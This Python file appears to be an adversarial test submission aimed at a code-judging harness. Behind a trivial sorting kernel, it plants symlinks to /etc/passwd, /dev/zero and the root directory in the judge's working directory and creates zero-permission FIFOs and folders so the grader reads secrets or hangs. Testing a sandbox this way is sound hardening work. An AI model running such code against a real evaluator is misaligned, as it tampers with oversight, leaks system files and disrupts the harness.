# ruff: noqa
# mypy: ignore-errors
# group: persistence
# catalogue: S1
# tries: put links, pipes and other files into the place of the link's own, for the judge and the job script to follow
# verdict: passed
# patience s: 10
import os
import sys

_LINK = sys.argv[-1]
for _name, _target in (("log", "/etc/passwd"), ("bell", "/etc/passwd"), ("in", "/dev/zero"), ("kb-marker", "/")):
    try:
        if os.path.lexists(f"{_LINK}/{_name}"):
            os.rename(f"{_LINK}/{_name}", f"{_LINK}/kb-marker-{_name}")
        os.symlink(_target, f"{_LINK}/{_name}")
    except OSError:
        pass
try:
    os.mkfifo(f"{_LINK}/out.new", 0)
    os.mkdir(f"{_LINK}/work.new", 0)
except OSError:
    pass


def custom_kernel(data):
    return sorted(data)
